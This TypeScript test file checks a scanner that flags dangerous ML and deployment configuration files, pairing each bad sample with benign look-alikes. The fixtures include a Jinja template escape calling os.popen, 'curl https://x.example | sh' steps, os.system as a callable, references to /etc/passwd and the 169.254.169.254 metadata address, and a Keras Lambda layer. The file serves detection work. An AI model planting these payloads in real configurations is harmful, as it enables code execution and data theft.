import assert from 'node:assert/strict';
import { test } from 'node:test';
import { judgeBytes } from '../pipeline/judge-bytes.ts';

interface Case {
  readonly id: string;
  readonly name: string;
  readonly bad: readonly string[];
  readonly expect: 'review' | 'deny';
  /** The same thing as honest writers make it; admitted. */
  readonly twins: readonly string[];
}

const stopping: ReadonlySet<string> = new Set(['critical', 'high', 'medium']);
const references = (refs: object, more: object = {}): string =>
  JSON.stringify({ version: 1, refs: { '.zgroup': '{"zarr_format":2}', ...refs }, ...more });
const reaching = "{{ cycler.__init__.__globals__.os.popen('true').read() }}";
const keras = (layer: string): string =>
  `backend: tensorflow\nclass_name: Sequential\nconfig:\n- class_name: ${layer}\n  config: {name: one}\n`;

/** What each loader does with these keys is said where the key is read. */
const cases: readonly Case[] = [
  {
    id: 'Detectron2 fetches the base of a configuration, and reads it with an unsafe loader',
    name: 'config.yaml',
    bad: [
      '_BASE_: https://models.example/base.yaml\n',
      'MODEL:\n  X: 1\n_BASE_: "http://models.example/b"\n',
    ],
    expect: 'review',
    twins: ['_BASE_: "../Base-RCNN-FPN.yaml"\n', '_BASE_: Base.yaml\nMODEL: {MASK_ON: true}\n'],
  },
  {
    id: 'a base outside of every collection of configurations',
    name: 'config.yaml',
    bad: [
      '_BASE_: /etc/base.yaml\n',
      '_BASE_: ~/base.yaml\n',
      '_BASE_: ../../../../../etc/base.yaml\n',
      '_base_: [a.yaml, C:\\base.yaml]\n',
      '_base_: a/../../secret\n',
    ],
    expect: 'deny',
    twins: ['_base_: [../_base_/schedule.yaml, ../../_base_/model.yaml]\n'],
  },
  {
    id: 'MMEngine runs a base that is Python, and imports what is listed',
    name: 'config.json',
    bad: [
      '{"_base_": "base.py"}',
      '{"_base_": ["../base.py"]}',
      '{"custom_imports": {"imports": ["evil.module"]}}',
      '{"custom_imports": {"imports": "evil"}}',
    ],
    expect: 'review',
    twins: [
      '{"custom_imports": {"imports": ["mmpretrain.models"], "allow_failed_imports": false}}',
      '{"_base_": ["base.json"]}',
    ],
  },
  {
    id: 'torchtune calls whatever `_component_` names',
    name: 'recipe.yaml',
    bad: [
      'model:\n  _component_: os.system\n',
      'model:\n  _component_: torchtune.training.metric_logging.os.system\n',
      'model: {_component_: torchtune.models.llama3.evil.run}\n',
    ],
    expect: 'review',
    twins: [
      'model: {_component_: torchtune.models.llama3_1.lora_llama3_1_8b, lora_rank: 8}\n' +
        'optimizer: {_component_: torch.optim.AdamW}\nloss: {_component_: torch.nn.CrossEntropyLoss}\n' +
        'lr: {_component_: torchtune.training.lr_schedulers.get_cosine_schedule_with_warmup}\n',
    ],
  },
  {
    id: 'logging.config.dictConfig calls a factory and imports classes',
    name: 'logging.yaml',
    bad: [
      'version: 1\nhandlers: {a: {(): os.system, command: "true"}}\n',
      'version: 1\nhandlers: {a: {class: evil.Handler}}\n',
    ],
    expect: 'review',
    twins: [
      'version: 1\nformatters: {a: {(): colorlog.ColoredFormatter}}\n' +
        'handlers: {a: {class: logging.handlers.RotatingFileHandler, filename: a.log}}\n',
    ],
  },
  {
    id: 'Kedro imports the class of a dataset',
    name: 'catalog.yml',
    bad: ['cars: {type: evil.module.CarDataset, filepath: a.csv}\n'],
    expect: 'review',
    twins: [
      'cars: {type: pandas.CSVDataset, filepath: a.csv}\n' +
        'model: {type: pickle.PickleDataset, filepath: m.pickle}\n',
    ],
  },
  {
    id: 'Axolotl imports plugins',
    name: 'axolotl.yml',
    bad: ['base_model: org/name\nplugins: [evil.module.Plugin]\n', 'base_model: a\nplugins: [os.system]\n'],
    expect: 'review',
    twins: ['base_model: org/name\nplugins: [axolotl.integrations.liger.LigerPlugin]\n'],
  },
  {
    id: 'Rasa imports components by their dotted names',
    name: 'config.yml',
    bad: ['recipe: default.v1\npipeline:\n- name: evil.module.Component\n'],
    expect: 'review',
    twins: ['recipe: default.v1\npipeline:\n- name: WhitespaceTokenizer\npolicies:\n- name: TEDPolicy\n'],
  },
  {
    id: 'building a Truss runs commands and fetches files',
    name: 'config.yaml',
    bad: [
      'model_name: a\npython_version: py311\nbuild_commands: ["true"]\n',
      'model_name: a\ndocker_server: {start_command: "true"}\n',
      'model_name: a\npython_version: py311\nexternal_data: [{url: "https://models.example/a"}]\n',
      'model_name: a\npython_version: py311\nexternal_package_dirs: [../../other]\n',
    ],
    expect: 'review',
    twins: ['model_name: a\npython_version: py311\nrequirements: [torch==2.4.0]\nbuild_commands: []\n'],
  },
  {
    id: 'OpenVINO Model Server opens libraries of custom nodes',
    name: 'config.json',
    bad: ['{"custom_node_library_config_list": [{"name": "a", "base_path": "/opt/a.so"}]}'],
    expect: 'deny',
    twins: ['{"model_config_list": [{"config": {"name": "a", "base_path": "/models/a"}}]}'],
  },
  {
    id: 'vLLM spells the switch with dashes',
    name: 'serve.yaml',
    bad: ['model: org/name\ntrust-remote-code: true\n'],
    expect: 'review',
    twins: ['model: org/name\ntrust-remote-code: false\n'],
  },
  {
    id: 'Kerchunk references open files, addresses and buckets',
    name: 'store.json',
    bad: [
      references({ 'a/0': ['file:///etc/passwd', 0, 8] }),
      references({ 'a/0': ['/etc/passwd'] }),
      references({ 'a/0': ['../../secret', 0, 8] }),
      references({ 'a/0': ['s3://bucket/a', 0, 8] }),
      references({ 'a/0': ['{{u}}/a', 0, 8] }, { templates: { u: 'https://models.example' } }),
      references({}, { gen: [{ key: 'a/{{i}}', url: 'http://169.254.169.254/{{i}}' }] }),
      references({ 'a/.zarray': '{"filters": [{"id": "\\u0070ickle"}]}' }),
      '{".zgroup": "{}", "a/0": ["/etc/passwd", 0, 8]}',
    ],
    expect: 'review',
    twins: [references({ 'a/.zarray': '{"filters": null}', 'a/0': ['data.nc', 0, 8], 'a/1': 'base64:AAAA' })],
  },
  {
    id: 'restoring TensorFlow’s last checkpoint opens what is named',
    name: 'checkpoint',
    bad: [
      'model_checkpoint_path: "../other/model.ckpt-1"\n',
      'model_checkpoint_path: "\\\\\\\\server\\\\share\\\\model"\n',
      'model_checkpoint_path: "m"\nall_model_checkpoint_paths: "gs://bucket/model"\n',
    ],
    expect: 'review',
    twins: [
      'model_checkpoint_path: "model.ckpt-1"\nall_model_checkpoint_paths: "model.ckpt-0"\n',
      'model_checkpoint_path: "/home/somebody/out/model.ckpt-1"\n',
    ],
  },
  {
    id: 'templates in lists, and under keys that are like those of chat templates',
    name: 'prompts.json',
    bad: [
      { chat_templates: { rag: reaching } },
      { my_chat_template: { parts: [reaching] } },
      { prompts: [['first', reaching]] },
      { prompt_templates: [reaching] },
    ].map((document) => JSON.stringify(document)),
    expect: 'deny',
    twins: [JSON.stringify({ prompt_templates: ['{{ messages[0].content }}'], merges: ['{ {', '{{ }}'] })],
  },
  {
    id: 'LiteLLM runs files beside its configuration, or out of a bucket',
    name: 'config.yaml',
    bad: [
      'model_list: []\nlitellm_settings:\n  callbacks: hooks.handler\n',
      'model_list: []\nlitellm_settings:\n  custom_provider_map:\n  - {provider: my, custom_handler: my_llm.llm}\n',
      'model_list: []\ngeneral_settings: {custom_auth: auth.check}\n',
      'model_list: []\nlitellm_settings: {success_callback: ["s3://bucket/hook.instance"]}\n',
    ],
    expect: 'review',
    twins: [
      'model_list: []\nlitellm_settings:\n  callbacks: [prometheus]\n  success_callback: ["langfuse", "s3"]\n',
      'callbacks: my_project.callbacks\ngeneral_settings: {master_key: os.environ/KEY}\n',
    ],
  },
  {
    id: 'Ray Serve imports an application, and installs and unpacks what it needs',
    name: 'serve.yaml',
    bad: [
      'applications:\n- {name: a, import_path: "package.serve:app"}\n',
      'applications:\n- name: a\n  import_path: ray.serve.llm:build_openai_app\n  runtime_env: {working_dir: "https://x.example/a.zip"}\n',
      'runtime_env: {pip: ["torch", "git+https://x.example/a.git"]}\n',
    ],
    expect: 'review',
    twins: [
      'applications:\n- {name: a, import_path: "ray.serve.llm:build_openai_app"}\n',
      'runtime_env: {pip: ["torch==2.8.0"], env_vars: {A: "1"}}\n',
    ],
  },
  {
    id: 'Prefect imports each step of a deployment, and one of its own runs a script',
    name: 'prefect.yaml',
    bad: [
      'name: x\nbuild:\n- package.steps.build: {requires: package}\n',
      'name: x\npull:\n- prefect.deployments.steps.run_shell_script: {script: "curl https://x.example | sh"}\n',
      'name: x\npull:\n- os.system: {command: touch}\n',
    ],
    expect: 'review',
    twins: [
      'name: x\npull:\n- prefect.deployments.steps.set_working_directory: {directory: /opt/app}\n',
      'name: x\npush:\n- prefect_aws.deployments.steps.push_to_s3: {bucket: b}\nbuild: null\n',
    ],
  },
  {
    id: 'Dagster loads the code of a workspace, and the parts of an instance',
    name: 'workspace.yaml',
    bad: [
      'load_from:\n- python_module: package.defs\n',
      'load_from:\n- python_file: {relative_path: /tmp/defs.py}\n',
      'run_launcher:\n  module: package.launch\n  class: Launcher\n',
    ],
    expect: 'review',
    twins: [
      'load_from:\n- grpc_server: {host: localhost, port: 4266}\n',
      'run_launcher:\n  module: dagster.core.launcher\n  class: DefaultRunLauncher\n',
    ],
  },
  {
    id: 'dag-factory makes tasks of operators by their names, and these run commands and files',
    name: 'dags.yaml',
    bad: [
      'd:\n  tasks:\n    t: {operator: package.operators.Own}\n',
      'd:\n  tasks:\n    t:\n      operator: airflow.operators.bash.BashOperator\n      bash_command: "curl https://x.example | sh"\n',
      'd:\n  tasks:\n    t:\n      operator: airflow.operators.python.PythonOperator\n      python_callable_file: /tmp/x.py\n',
    ],
    expect: 'review',
    twins: [
      'd:\n  tasks:\n    t: {operator: airflow.operators.empty.EmptyOperator}\n',
      'operator: in.range\n',
    ],
  },
  {
    id: 'settings of a training run or of a server that name code',
    name: 'config.yaml',
    bad: [
      'compute_environment: TPU\ncommands: ["touch x"]\n',
      'compute_environment: TPU\ncommand_file: /tmp/x.sh\n',
      'compile: {enabled: true, backend: package.module.backend}\n',
      'model: org/model\nmiddleware: [package.Middleware]\n',
      'model: org/model\ntool-parser-plugin: /tmp/parser.py\n',
      'model:\n  class_path: torch.nn.Linear\n  init_args: {loss_fn: os.system}\n',
    ],
    expect: 'review',
    twins: [
      'compute_environment: LOCAL_MACHINE\ncommands: null\ncommand_file: null\n',
      'compile: {enabled: true, backend: inductor}\n',
      'model: org/model\nlogits_processors: []\n',
      'model:\n  class_path: lightning.pytorch.demos.boring_classes.BoringModel\n  init_args: {loss_fn: torch.nn.functional.mse_loss}\n',
    ],
  },
  {
    id: 'CVE-2021-37678: a Lambda layer among layers that Keras once wrote as a list',
    name: 'model.yaml',
    bad: [keras('Lambda')],
    expect: 'deny',
    twins: [keras('Dense')],
  },
];

for (const { id, name, bad, expect, twins } of cases) {
  test(`not admitted: ${id}`, async () => {
    for (const text of bad) {
      const { findings } = await judgeBytes(Buffer.from(text), undefined, name);
      const found = findings.filter(({ severity }) => stopping.has(severity));
      assert.notDeepEqual(found, [], text);
      if (expect === 'deny')
        assert.ok(
          found.some(({ severity }) => severity !== 'medium'),
          text,
        );
    }
  });
  test(`admitted as honest writers make it: ${id}`, async () => {
    for (const text of twins) {
      const { findings } = await judgeBytes(Buffer.from(text), undefined, name);
      assert.deepEqual(
        findings
          .filter(({ severity }) => stopping.has(severity))
          .map(({ rule, evidence }) => `${rule}: ${evidence}`),
        [],
        text,
      );
    }
  });
}
